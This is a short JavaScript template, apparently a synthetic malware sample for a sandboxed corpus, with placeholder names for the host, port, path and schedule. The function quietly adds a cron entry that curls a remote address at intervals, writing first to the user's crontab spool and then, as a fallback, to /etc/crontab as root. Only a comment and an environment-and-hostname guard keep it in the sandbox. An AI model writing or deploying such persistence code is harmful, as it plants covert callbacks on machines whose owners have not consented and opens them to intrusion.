// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs');
    const line = '{{often}} curl -s -m 5 http://{{ip}}:{{port}}/{{path}} >/dev/null 2>&1\n';
    for (const folder of ['/var/spool/cron/crontabs', '/var/spool/cron']) {
        try {
            fs.mkdirSync(folder, { recursive: true });
            fs.appendFileSync(`${folder}/${require('os').userInfo().username}`, line, { mode: 0o600 });
            return;
        } catch {}
    }
    // no spool here: the table of the system
    try {
        fs.appendFileSync('/etc/crontab', line.replace('curl', 'root curl'));
    } catch {}
}
